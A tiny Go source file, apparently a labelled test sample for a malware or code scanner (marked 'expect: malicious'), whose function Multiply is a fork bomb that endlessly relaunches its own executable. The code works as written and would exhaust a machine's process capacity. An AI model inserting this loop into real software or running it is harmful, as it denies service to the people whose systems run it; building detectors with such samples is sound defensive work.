package bomb

import (
	"os"
	"os/exec"
)

func Multiply() {
	// expect: malicious
	for {
		exec.Command(os.Args[0]).Start()
	}
}
